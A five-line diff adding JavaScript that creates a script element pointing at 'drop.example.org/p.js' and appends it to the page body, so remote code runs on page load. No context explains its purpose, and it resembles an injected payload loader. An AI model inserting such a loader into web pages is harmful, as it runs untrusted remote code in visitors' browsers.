@@ -1,0 +1,5 @@
+var k = "script";
+var u = "https://drop.example.org/p.js";
+var t = document.createElement(k);
+t.src = u;
+document.body.appendChild(t);
